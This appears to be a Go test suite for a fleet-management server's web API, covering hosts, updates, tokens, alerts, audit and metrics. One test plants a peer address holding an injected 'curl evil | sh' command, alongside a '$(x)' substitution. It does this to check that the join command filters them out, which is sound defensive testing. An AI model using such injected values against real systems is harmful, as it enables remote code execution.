package webui

import (
	"errors"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"moult/consensus/fleet"
	"moult/mesh/identity"

	"github.com/prometheus/client_golang/prometheus"
)

func TestHostsJoinDecidedAndObserved(t *testing.T) {
	w := StartWorld(t)
	w.MustEnrol("b", "1.0.0", true)
	w.MustEnrol("a", "2.0.0", true)
	w.MustEnrol("off", "1.0.0", false)
	w.MustEnrol("unseen", "", false)
	w.mustEnrol("far", fleet.RoleAgent, "dmz", "1.0.0", true)
	w.mustEnrol("server-2", fleet.RoleServer, "default", "1.0.0", true)

	for query, want := range map[string]string{
		"":                               "a b far off unseen",
		"?status=online":                 "a b far",
		"?status=offline":                "off unseen",
		"?segment=dmz":                   "far",
		"?q=F":                           "far off",
		"?q=id-b":                        "b",
		"?status=online&updates=behind":  "a", // before any release the target is the server's own version
		"?status=offline&updates=behind": "",
	} {
		got := strings.Join(column(w.Admin("GET", "/api/hosts"+query, "").OK()["hosts"], "name"), " ")
		if got != want {
			t.Errorf("%q: %s, want %s", query, got, want)
		}
	}
	w.MustRelease("2.0.0", 2)
	w.MustRelease("1.9.0", 1)
	if got := column(w.Admin("GET", "/api/hosts?updates=behind", "").OK()["hosts"], "name"); !slices.Equal(got, []string{"b", "far", "off"}) {
		t.Errorf("behind: %v", got)
	}
	h := w.Admin("GET", "/api/hosts/id-b", "").OK()
	if h["agent_version"] != "1.0.0" || h["target_version"] != "2.0.0" || h["update_available"] != true || h["online"] != true || h["update_in_progress"] != false {
		t.Errorf("host b: %v", h)
	}
	if h := w.Admin("GET", "/api/hosts/id-unseen", "").OK(); h["last_seen"] != nil || h["agent_version"] != "" || h["update_available"] != false {
		t.Errorf("unseen: %v", h)
	}
	w.Admin("GET", "/api/hosts?status=maybe", "").Refused(400, "bad_request")
	w.Admin("GET", "/api/hosts/nobody", "").Refused(404, "host_not_found")
	w.Admin("GET", "/api/hosts/id-server-2", "").Refused(404, "host_not_found")
	w.Admin("DELETE", "/api/hosts/id-server-2", "").Refused(404, "host_not_found")
	w.Admin("DELETE", "/api/hosts/id-b", "").OK()
	w.Admin("GET", "/api/hosts/id-b", "").Refused(404, "host_not_found")
}

func TestHostUpdateChecksInOrder(t *testing.T) {
	w := StartWorld(t)
	id := w.MustEnrol("a", "0.9.0", false)
	update := "/api/hosts/" + id + "/update"
	w.Admin("POST", "/api/hosts/nobody/update", "").Refused(404, "host_not_found")
	w.Admin("POST", update, `{"target_version":"0.9.0"}`).Refused(409, "host_offline")
	w.roster.set(id, Observation{Online: true, Version: "0.9.0"})
	w.Admin("POST", update, `{"target_version":"0.9.0"}`).Refused(409, "already_up_to_date")
	w.Admin("POST", update, "").Refused(404, "release_not_found") // the server's own version is no release
	w.MustRelease("1.0.0", 1)
	w.MustRelease("2.0.0", 2)
	job := w.Admin("POST", update, "").OK()["job_id"].(string)
	w.roster.set(id, Observation{Online: false, Version: "0.9.0"})
	w.Admin("POST", update, "").Refused(409, "update_in_progress")
	if h := w.Admin("GET", "/api/hosts/"+id, "").OK(); h["update_in_progress"] != true {
		t.Errorf("host: %v", h)
	}
	j := w.Admin("GET", "/api/jobs/"+job, "").OK()
	if j["status"] != "queued" || j["target_version"] != "2.0.0" || j["actor"] != "token:bootstrap" || j["started_at"] != nil || j["attempt"] != 1.0 {
		t.Errorf("job: %v", j)
	}
	w.Admin("GET", "/api/jobs/none", "").Refused(404, "job_not_found")
}

func TestFleetUpdateChoosesHosts(t *testing.T) {
	w := StartWorld(t)
	w.Admin("POST", "/api/fleet/update", "").Refused(409, "nothing_to_update")
	for name, online := range map[string]bool{"c": true, "a": true, "b": false} {
		w.MustEnrol(name, "1.0.0", online)
	}
	w.MustEnrol("new", "2.0.0", true)
	w.mustEnrol("server-2", fleet.RoleServer, "default", "1.0.0", true)
	w.Admin("POST", "/api/fleet/update", `{"target_version":"9"}`).Refused(404, "release_not_found")
	w.MustRelease("1.0.0", 1)
	w.MustRelease("2.0.0", 2)
	w.Admin("POST", "/api/fleet/update", `{"host_ids":["id-a","nobody"]}`).Refused(404, "host_not_found")
	w.Admin("POST", "/api/fleet/update", `{"host_ids":["id-server-2"]}`).Refused(404, "host_not_found")
	w.Admin("POST", "/api/fleet/update", `{"host_ids":["id-new"]}`).Refused(409, "nothing_to_update")
	w.Admin("POST", "/api/fleet/update", `{"host_ids":[]}`).Refused(409, "nothing_to_update")
	w.Admin("POST", "/api/fleet/update", `{"host_ids":["id-a","id-a"]}`).Refused(400, "bad_request")

	id := w.Admin("POST", "/api/fleet/update", "").OK()["fleet_update_id"].(string)
	f := w.Admin("GET", "/api/fleet-updates/"+id, "").OK()
	if names := column(f["hosts"], "name"); !slices.Equal(names, []string{"a", "c"}) {
		t.Errorf("hosts %v", names)
	}
	if f["status"] != "running" || f["target_version"] != "2.0.0" || f["completed_at"] != nil || f["started_by"] != "token:bootstrap" {
		t.Errorf("%v", f)
	}
	if msg := w.Admin("POST", "/api/fleet/update", "").Refused(409, "fleet_update_running"); !strings.Contains(msg, "token:bootstrap") {
		t.Errorf("does not name who: %s", msg)
	}
	w.Admin("POST", "/api/hosts/id-a/update", "").Refused(409, "update_in_progress")
	if h := w.Admin("GET", "/api/hosts/id-c", "").OK(); h["update_in_progress"] != true {
		t.Errorf("a host whose turn comes: %v", h)
	}

	verb := func(v string) string { return "/api/fleet-updates/" + id + "/" + v }
	w.Call(operatorToken, "POST", verb("resume"), "").Refused(409, "not_running")
	if f := w.Call(operatorToken, "POST", verb("pause"), "").OK(); f["status"] != "paused" {
		t.Errorf("%v", f)
	}
	w.Call(operatorToken, "POST", verb("resume"), "").OK()
	if f := w.Admin("POST", verb("cancel"), "").OK(); f["status"] != "cancelled" || column(f["hosts"], "failed_reason")[0] != "cancelled" || f["completed_at"] == nil {
		t.Errorf("%v", f)
	}
	for _, v := range []string{"cancel", "pause", "resume"} {
		w.Admin("POST", verb(v), "").Refused(409, "not_running")
		w.Admin("POST", "/api/fleet-updates/none/"+v, "").Refused(404, "fleet_update_not_found")
	}
	w.Admin("GET", "/api/fleet-updates/none", "").Refused(404, "fleet_update_not_found")

	// Named hosts go in the order they were named, those at the target included.
	id = w.Admin("POST", "/api/fleet/update", `{"host_ids":["id-new","id-c","id-b"]}`).OK()["fleet_update_id"].(string)
	if names := column(w.Admin("GET", "/api/fleet-updates/"+id, "").OK()["hosts"], "name"); !slices.Equal(names, []string{"new", "c", "b"}) {
		t.Errorf("hosts %v", names)
	}
	if ids := column(w.Admin("GET", "/api/fleet-updates", "").OK()["fleet_updates"], "id"); len(ids) != 2 || ids[0] != id {
		t.Errorf("newest first: %v", ids)
	}
}

func TestJobLogContinuesAfterASequenceNumber(t *testing.T) {
	w := StartWorld(t)
	id := w.MustEnrol("a", "1.0.0", true)
	w.MustRelease("2.0.0", 2)
	job := w.Admin("POST", "/api/hosts/"+id+"/update", "").OK()["job_id"].(string)
	lines := make([]fleet.LogLine, maxLogLines+5)
	for i := range lines {
		lines[i] = fleet.LogLine{At: w.clock.Now(), Stream: fleet.StreamAgent, Line: "line"}
	}
	w.MustPropose("host:a", fleet.JobLogAppended{JobID: job, First: 1, Lines: lines})
	first := column(w.Admin("GET", "/api/jobs/"+job+"/log", "").OK()["lines"], "seq")
	if len(first) != maxLogLines || first[0] != "1" {
		t.Fatalf("%d lines from %s", len(first), first[0])
	}
	rest := column(w.Admin("GET", "/api/jobs/"+job+"/log?after="+first[maxLogLines-1], "").OK()["lines"], "seq")
	if len(rest) != 5 || rest[0] != "1001" {
		t.Fatalf("the rest: %v", rest)
	}
	for _, after := range []string{"1005", "18446744073709551615"} {
		if got := w.Admin("GET", "/api/jobs/"+job+"/log?after="+after, "").OK()["lines"].([]any); len(got) != 0 {
			t.Errorf("after %s: %v", after, got)
		}
	}
	w.Admin("GET", "/api/jobs/"+job+"/log?after=x", "").Refused(400, "bad_request")
	w.Admin("GET", "/api/jobs/none/log", "").Refused(404, "job_not_found")
}

func TestBodiesAreReadStrictly(t *testing.T) {
	w := StartWorld(t)
	for _, c := range []struct{ method, path, body, names string }{
		{"POST", "/api/fleet/update", `{"target":"1"}`, `"target"`},
		{"POST", "/api/fleet/update", `{"host_ids":"a"}`, "host_ids"},
		{"POST", "/api/fleet/update", `{"target_version":3}`, "target_version"},
		{"POST", "/api/fleet/update", `{} {}`, "body"},
		{"POST", "/api/fleet/update", `{`, "body"},
		{"POST", "/api/users", `{"name":"x","role":"king","password":"12345678"}`, "role"},
		{"POST", "/api/users", `{"name":"x","role":"viewer","password":"short"}`, "password"},
		{"POST", "/api/users", `{"name":"<x>","role":"viewer","password":"long enough"}`, "name"},
		{"PATCH", "/api/users/u1", `{}`, "role"},
		{"POST", "/api/tokens", `{"name":"x","role":"viewer","ttl":"-1h"}`, "ttl"},
		{"POST", "/api/tokens", `{"name":"x"}`, "role"},
		{"POST", "/api/join-tokens", `{"ttl":"9000h"}`, "ttl"},
		{"POST", "/api/join-tokens", `{"ttl":15}`, "ttl"},
		{"POST", "/api/join-tokens", `{"role":"king"}`, "role"},
		{"POST", "/api/join-tokens", `{"segment":"a b"}`, "segment"},
		{"POST", "/api/alerts/1/acknowledge", `{"x":1}`, `"x"`},
		{"GET", "/api/audit?limit=0", "", "limit"},
		{"GET", "/api/audit?before=-1", "", "before"},
	} {
		if msg := w.Admin(c.method, c.path, c.body).Refused(400, "bad_request"); !strings.Contains(msg, c.names) {
			t.Errorf("%s %s: %q does not name %s", c.path, c.body, msg, c.names)
		}
	}
	w.Admin("POST", "/api/fleet/update", `{"target_version":"`+strings.Repeat("x", maxJSONBody)+`"}`).Refused(413, "too_large")
}

func TestUsersAndTokens(t *testing.T) {
	w := StartWorld(t)
	user := w.Admin("POST", "/api/users", `{"name":"bob","role":"viewer","password":"bob's password"}`).OK()
	id := user["id"].(string)
	w.Admin("POST", "/api/users", `{"name":"bob","role":"viewer","password":"bob's password"}`).Refused(409, "user_exists")
	if u := w.Admin("PATCH", "/api/users/"+id, `{"role":"operator"}`).OK(); u["role"] != "operator" {
		t.Errorf("%v", u)
	}
	if body := w.Admin("GET", "/api/users", "").Body.String(); strings.Contains(body, "argon2") || !strings.Contains(body, "bob") {
		t.Errorf("users: %s", body)
	}
	w.Admin("DELETE", "/api/users/u1", "").Refused(409, "last_admin")
	w.Admin("DELETE", "/api/users/"+id, "").OK()
	w.Admin("DELETE", "/api/users/"+id, "").Refused(404, "user_not_found")

	token := w.Admin("POST", "/api/tokens", `{"name":"ci","role":"operator","ttl":"1h"}`).OK()
	secret := token["token"].(string)
	w.Call(secret, "GET", "/api/hosts", "").OK()
	if body := w.Admin("GET", "/api/tokens", "").Body.String(); strings.Contains(body, secret) || strings.Contains(body, hashSecret(secret)) || !strings.Contains(body, `"ci"`) {
		t.Errorf("tokens: %s", body)
	}
	w.clock.Advance(time.Hour)
	w.Call(secret, "GET", "/api/hosts", "").Refused(401, "unauthenticated")
	w.Admin("DELETE", "/api/tokens/"+token["id"].(string), "").OK()
	w.Admin("DELETE", "/api/tokens/"+token["id"].(string), "").Refused(404, "token_not_found")
}

func TestJoinTokenLetsAHostIn(t *testing.T) {
	w := StartWorld(t)
	w.mustEnrol("server-2", fleet.RoleServer, "default", "1.0.0", true)
	out := w.Admin("POST", "/api/join-tokens", `{"role":"agent","segment":"dmz","ttl":"10m"}`).OK()
	token, err := identity.ParseToken(out["token"].(string))
	if err != nil {
		t.Fatal(err)
	}
	cluster, _ := w.state.View().Cluster()
	if want, _ := identity.CAHash(cluster.CACert); token.CAHash != want {
		t.Errorf("CA hash %s", token.CAHash)
	}
	kept, exists := w.state.View().JoinTokenByHash(token.SecretHash)
	if !exists || kept.Segment != "dmz" || kept.Role != fleet.RoleAgent || !kept.ExpiresAt.Equal(w.clock.Now().Add(10*time.Minute)) || kept.ID != out["id"] {
		t.Errorf("kept %+v", kept)
	}
	want := "MOULT_TOKEN=" + out["token"].(string) + " moult agent --join 10.0.0.1:7947 --join 10.0.0.9:7947"
	if out["command"] != want {
		t.Errorf("command %s, want %s", out["command"], want)
	}
}

func TestJoinCommandHoldsOnlyPlainAddresses(t *testing.T) {
	w := StartWorld(t)
	w.MustPropose("system", fleet.HostAddressesChanged{HostID: "s1", PeerAddr: "x:1; curl evil | sh"})
	if cmd := w.Admin("POST", "/api/join-tokens", "").OK()["command"].(string); strings.Contains(cmd, "evil") {
		t.Errorf("command %s", cmd)
	}
	for addr, plain := range map[string]bool{"10.0.0.1:7947": true, "[fe80::1]:1": true, "host.example:1": true, "a:1 b": false, "$(x):1": false, "a:1\n": false} {
		if plainAddress().MatchString(addr) != plain {
			t.Errorf("%q", addr)
		}
	}
}

func TestServersAreRemovedFromRaftAndState(t *testing.T) {
	w := StartWorld(t)
	id := w.mustEnrol("server-2", fleet.RoleServer, "default", "1.0.0", true)
	agent := w.MustEnrol("a", "1.0.0", true)
	w.servers.list = append(w.servers.list, ServerStatus{ID: id, Name: "server-2"})
	if got := column(w.Admin("GET", "/api/servers", "").OK()["servers"], "name"); !slices.Equal(got, []string{"server-1", "server-2"}) {
		t.Errorf("servers %v", got)
	}
	w.Admin("POST", "/api/servers/nobody/remove", "").Refused(404, "server_not_found")
	w.Admin("POST", "/api/servers/"+agent+"/remove", "").Refused(404, "server_not_found")
	w.servers.fail = refuse(fleet.CodeConflict, "it is the last one")
	w.Admin("POST", "/api/servers/"+id+"/remove", "").Refused(409, "conflict")
	w.servers.fail = errors.New("no leader")
	w.Admin("POST", "/api/servers/transfer-leadership", "").Refused(503, "unavailable")
	w.Admin("POST", "/api/servers/"+id+"/remove", "").Refused(503, "unavailable")
	if _, exists := w.state.View().Host(id); !exists {
		t.Fatal("removed from the state before it left Raft")
	}
	w.servers.fail = nil
	w.Admin("POST", "/api/servers/"+id+"/remove", "").OK()
	if _, exists := w.state.View().Host(id); exists || !slices.Equal(w.servers.removed, []string{id}) {
		t.Errorf("removed %v", w.servers.removed)
	}
}

func TestAlertsAndAudit(t *testing.T) {
	w := StartWorld(t)
	id := w.MustEnrol("a", "1.0.0", true)
	w.MustRelease("2.0.0", 2)
	job := w.Admin("POST", "/api/hosts/"+id+"/update", "").OK()["job_id"].(string)
	w.MustPropose("coordinator", fleet.JobDispatched{JobID: job, HostID: id, FromVersion: "1.0.0", Boot: 1})
	w.MustPropose("coordinator", fleet.JobFinished{JobID: job, Status: fleet.JobFailed, Error: "disk full"})
	alerts := w.Admin("GET", "/api/alerts", "").OK()["alerts"].([]any)
	a := alerts[0].(map[string]any)
	if a["kind"] != "update_failed" || a["status"] != "open" || a["host_id"] != id || a["resolved_at"] != nil {
		t.Fatalf("%v", a)
	}
	ack := "/api/alerts/" + a["id"].(string) + "/acknowledge"
	if a := w.Call(operatorToken, "POST", ack, "").OK(); a["status"] != "resolved" || a["acknowledged_by"] != "token:op" || a["resolved_at"] == nil {
		t.Errorf("%v", a)
	}
	w.Admin("POST", "/api/alerts/none/acknowledge", "").Refused(404, "alert_not_found")

	entries := w.Admin("GET", "/api/audit?limit=2", "").OK()["entries"]
	if got := column(entries, "action"); !slices.Equal(got, []string{"alert_acknowledged", "job_finished"}) {
		t.Errorf("audit %v", got)
	}
	if got := column(entries, "actor"); got[0] != "token:op" {
		t.Errorf("actors %v", got)
	}
	next := w.Admin("GET", "/api/audit?limit=1&before="+column(entries, "index")[1], "").OK()["entries"]
	if got := column(next, "action"); !slices.Equal(got, []string{"job_dispatched"}) {
		t.Errorf("next page %v", got)
	}
}

func TestWhatCannotBeCommittedIsUnavailable(t *testing.T) {
	w := StartWorld(t)
	id := w.MustEnrol("a", "1.0.0", true)
	w.MustRelease("2.0.0", 2)
	w.log.fail = errors.New("no leader took the request")
	a := w.Admin("POST", "/api/hosts/"+id+"/update", "")
	if msg := a.Refused(503, "unavailable"); !strings.Contains(msg, "no leader") || a.Header().Get("Retry-After") == "" {
		t.Errorf("%s %v", msg, a.Header())
	}
	w.Call(viewerToken, "GET", "/api/hosts", "").OK() // reads go on
}

func TestUnknownPathsAndMethods(t *testing.T) {
	w := StartWorld(t)
	w.Admin("GET", "/api/nothing", "").Refused(404, "not_found")
	a := w.Admin("PUT", "/api/users/u1", "")
	a.Refused(http.StatusMethodNotAllowed, "method_not_allowed")
	if got := a.Header().Get("Allow"); got != "PATCH, DELETE" {
		t.Errorf("Allow: %s", got)
	}
	page := w.Call("", "GET", "/nothing", "")
	if page.Code != 404 || !strings.HasPrefix(page.Header().Get("Content-Type"), "text/html") || !strings.Contains(page.Body.String(), "Not Found") {
		t.Errorf("%d %s", page.Code, page.Body)
	}
	if head := w.Call("", "HEAD", "/api/version", ""); head.Code != 200 {
		t.Errorf("HEAD: %d", head.Code)
	}
	if v := w.Call("", "GET", "/api/version", "").OK(); v["version"] != ownVersion || v["commit"] != "abc123" {
		t.Errorf("%v", v)
	}
}

func TestReadiness(t *testing.T) {
	w := StartWorld(t)
	w.Call("", "GET", "/readyz", "").OK()
	w.ready = errors.New("no leader")
	if msg := w.Call("", "GET", "/readyz", "").Refused(503, "not_ready"); msg != "no leader; wait" {
		t.Error(msg)
	}
	w.Call("", "GET", "/healthz", "").OK()
}

func TestMetricsTellWhatTheAPIShows(t *testing.T) {
	w := StartWorld(t)
	w.MustEnrol("a", "1.0.0", true)
	w.MustEnrol("b", "1.0.0", false)
	left := w.MustEnrol("c", "1.0.0", false)
	w.roster.set(left, Observation{Left: true, Version: "2.0.0"})
	w.MustRelease("2.0.0", 2)
	w.Admin("POST", "/api/fleet/update", "").OK()
	text := w.Call(viewerToken, "GET", "/metrics", "").Body.String()
	for _, line := range []string{
		`moult_hosts{state="online"} 1`, `moult_hosts{state="offline"} 1`, `moult_hosts{state="left"} 1`, `moult_hosts_behind 2`,
		`moult_fleet_update_hosts{status="pending"} 1`, `moult_ready 1`, `moult_build_info{commit="abc123",version="1.0.0"} 1`, `moult_alerts_open 0`,
	} {
		if !strings.Contains(text, line+"\n") {
			t.Errorf("no %s in\n%s", line, text)
		}
	}
}

// What hosts say of themselves must neither break the scrape nor make it grow
// without end.
func TestMetricsBoundTheVersionsThatTheyName(t *testing.T) {
	w := StartWorld(t)
	w.MustEnrol("new", "", false)
	w.roster.set(w.MustEnrol("odd", "1.0.0", true), Observation{Online: true, Version: "\xff\"\n\\"})
	for i := range 2 * maxVersionSeries {
		w.MustEnrol(fmt.Sprint("many-", i), fmt.Sprint("0.", i), true)
		w.MustEnrol(fmt.Sprint("few-", i), "1.5.0", i%2 == 0)
	}
	text := w.Call(viewerToken, "GET", "/metrics", "").Body.String()
	for _, line := range []string{
		`moult_hosts_by_version{state="online",version="1.5.0"} 20`, `moult_hosts_by_version{state="offline",version="1.5.0"} 20`,
		`moult_hosts_by_version{state="offline",version=""} 1`,
	} {
		if !strings.Contains(text, line+"\n") {
			t.Errorf("no %s in\n%s", line, text)
		}
	}
	series := regexp.MustCompile(`(?m)^moult_hosts_by_version\{state="(\w+)",version="(.*)"\} (\d+)$`).FindAllStringSubmatch(text, -1)
	total := 0
	for _, m := range series {
		n, err := strconv.Atoi(m[3])
		if err != nil {
			t.Fatal(err)
		}
		total += n
	}
	if most := 3 * (maxVersionSeries + 1); len(series) > most || total != 4*maxVersionSeries+2 {
		t.Errorf("%d series of %d hosts", len(series), total)
	}
	if !strings.Contains(text, `version="(other)"`) {
		t.Errorf("no hosts of other versions in\n%s", text)
	}
	few := StartWorld(t)
	few.roster.set(few.MustEnrol("odd", "1.0.0", true), Observation{Online: true, Version: "\xff\"\n\\"})
	if a := few.Call(viewerToken, "GET", "/metrics", ""); a.Code != http.StatusOK || !strings.Contains(a.Body.String(), `version="?\"\n\\"`) {
		t.Errorf("%d %s", a.Code, a.Body)
	}
}

func TestMetricsTellTheStatusOfTheNewestFleetUpdate(t *testing.T) {
	w := StartWorld(t)
	w.MustEnrol("a", "1.0.0", true)
	w.MustRelease("2.0.0", 2)
	shows := func(lines ...string) {
		t.Helper()
		text := w.Call(viewerToken, "GET", "/metrics", "").Body.String()
		for _, line := range lines {
			if !strings.Contains(text, line+"\n") {
				t.Errorf("no %s in\n%s", line, text)
			}
		}
	}
	shows(`moult_fleet_update_status{status="running"} 0`, `moult_fleet_update_status{status="halted"} 0`, `moult_fleet_update_hosts{status="pending"} 0`)
	id := w.Admin("POST", "/api/fleet/update", "").OK()["fleet_update_id"].(string)
	shows(`moult_fleet_update_status{status="running"} 1`, `moult_fleet_update_hosts{status="pending"} 1`)
	w.Admin("POST", "/api/fleet-updates/"+id+"/cancel", "").OK()
	shows(`moult_fleet_update_status{status="running"} 0`, `moult_fleet_update_status{status="cancelled"} 1`, `moult_fleet_update_hosts{status="pending"} 0`)
}

func TestConfigMustBeComplete(t *testing.T) {
	w := StartWorld(t)
	c := w.config
	c.Publisher = nil
	if _, err := New(c); err == nil || !strings.Contains(err.Error(), "Publisher") {
		t.Errorf("%v", err)
	}
	c = w.config
	c.Metrics = []prometheus.Collector{prometheus.NewGauge(prometheus.GaugeOpts{Name: "moult_ready", Help: "another one"})}
	if _, err := New(c); err == nil || !strings.Contains(err.Error(), "Metrics") {
		t.Errorf("two metrics of one name: %v", err)
	}
}
